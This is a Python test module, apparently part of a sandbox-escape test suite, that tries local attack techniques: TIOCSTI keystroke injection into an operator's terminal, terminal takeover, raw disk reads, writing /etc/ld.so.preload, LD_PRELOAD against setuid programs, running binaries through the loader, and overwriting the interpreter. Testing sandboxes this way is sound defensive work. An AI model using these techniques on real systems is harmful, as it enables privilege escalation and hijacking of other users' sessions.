"""Devices, terminals, programs that crash, and the loader of programs."""

import ctypes
import fcntl
import os
import resource
import stat
import sys

from tests.escapes.attacks.attack import Loot, Targets, attack, claim, libc, output_of, read, write

HARMLESS = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}
TIOCSTI, TIOCLINUX = 0x5412, 0x541C


@attack()
def device_files(targets: Targets) -> Loot:
    """Opens all devices."""
    found = []
    for folder, _, names in os.walk("/dev"):
        for name in names:
            path = f"{folder}/{name}"
            mode = os.lstat(path).st_mode
            if not (stat.S_ISCHR(mode) or stat.S_ISBLK(mode)) or name in HARMLESS:
                continue
            if folder.startswith("/dev/pts"):
                continue
            try:
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
                found.append(path)
            except OSError:
                continue
    return claim(f"it opened {', '.join(found[:8])}") if found else None


@attack()
def terminal_of_operator(targets: Targets) -> Loot:
    """Writes to the terminal of somebody who works on this machine."""
    write(targets.terminal, targets.name("terminal_of_operator"), flags=os.O_NOCTTY)
    return None


@attack()
def type_for_operator(targets: Targets) -> Loot:
    """Types a command into the terminal of its session."""
    for number in (0, 1, 2):
        try:
            fcntl.ioctl(number, TIOCSTI, b"x")
            return claim("it typed into a terminal")
        except OSError:
            continue
    for path in ("/dev/tty", targets.terminal):
        try:
            fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NOCTTY), TIOCSTI, b"x")
        except OSError:
            continue
    return None


@attack()
def take_terminal(targets: Targets) -> Loot:
    """Makes somebody's terminal its own, and types into it."""
    if os.fork() == 0:
        os.setsid()
        try:
            terminal = os.open(targets.terminal, os.O_RDWR)
            fcntl.ioctl(terminal, 0x540E, 0)  # TIOCSCTTY
            for letter in targets.name("take_terminal").encode():
                fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))
        finally:
            os._exit(0)
    return None


@attack()
def disk(targets: Targets) -> Loot:
    """Reads the machine's disk."""
    found = b"".join(
        read(f"/dev/{name}", 512) for name in ("vda", "sda", "nvme0n1", "dm-0", "loop0")
    )
    return claim("it read the disk") if found else None


@attack()
def crash_with_core(targets: Targets) -> Loot:
    """Crashes and leaves its memory in a file, or with the program that collects those."""
    resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    return claim("it may leave core files")


@attack()
def crash(targets: Targets) -> Loot:
    """Crashes in its own directory."""
    os.chdir("/tmp")
    ctypes.string_at(8)
    return None


@attack()
def preload_for_all(targets: Targets) -> Loot:
    """Names a library that every program of the machine loads."""
    return claim("it wrote ld.so.preload") if write("/etc/ld.so.preload", "\n") else None


@attack()
def preload_for_setuid(targets: Targets) -> Loot:
    """Starts a setuid program with a library of its own."""
    said = output_of(
        f"{targets.outside}/root-id",
        "-u",
        env={"LD_PRELOAD": "/tmp/none.so", "LD_LIBRARY_PATH": "/tmp", "GCONV_PATH": "/tmp"},
    )
    return claim("it is root") if said.strip().endswith("\n0") else None


@attack()
def loader_as_program(targets: Targets) -> Loot:
    """Runs a program that it may not run, through the loader."""
    return output_of("/lib64/ld-linux-x86-64.so.2", f"{targets.outside}/private-program")


@attack()
def overwrite_interpreter(targets: Targets) -> Loot:
    """Overwrites the program that it runs, for whoever runs it next."""
    for path in ("/proc/self/exe", os.path.realpath(sys.executable), "/bin/sh"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            return claim(f"{path} may be written")
        except OSError:
            continue
    return None


@attack()
def dump_again(targets: Targets) -> Loot:
    """Makes itself readable for other processes of its user again."""
    libc.prctl(4, 1, 0, 0, 0)
    return None
